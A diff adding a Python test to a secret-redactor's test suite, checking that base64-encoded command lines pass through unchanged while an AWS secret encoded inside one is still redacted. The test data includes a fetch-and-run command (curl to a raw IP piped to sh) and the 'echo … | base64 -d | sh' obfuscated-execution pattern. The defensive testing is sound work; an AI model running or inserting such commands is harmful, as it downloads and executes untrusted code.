@@ -280,3 +280,17 @@ def test_key_fragments_leave_digests_shas_uuids_certificates_and_public_keys_alo
                  f'"integrity": "sha512-{base64.b64encode(hashlib.sha512(b"x").digest()).decode()}"']:
         out, found = red.scan(text)
         assert not found and out == text, (text, out)
+
+
+def test_an_encoded_command_line_is_not_a_key_fragment_but_a_secret_inside_it_is_redacted():
+    """`echo <base64> | base64 -d | sh` keeps its payload (the obfuscated-execution rules read it), and
+    the text it encodes is scanned like any other layer: a secret there is still redacted."""
+    red = Redactor(KEY)
+    payload = base64.b64encode(b"curl -s http://185.220.101.4/i | sh").decode()
+    for text in [payload, f"echo {payload} | base64 -d | sh"]:
+        out, found = red.scan(text)
+        assert not found and out == text, (text, out)
+    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
+    encoded = base64.b64encode(f"export AWS_SECRET_ACCESS_KEY={secret}".encode()).decode()
+    out, found = red.scan(f"echo {encoded} | base64 -d | sh")
+    assert found and encoded not in out
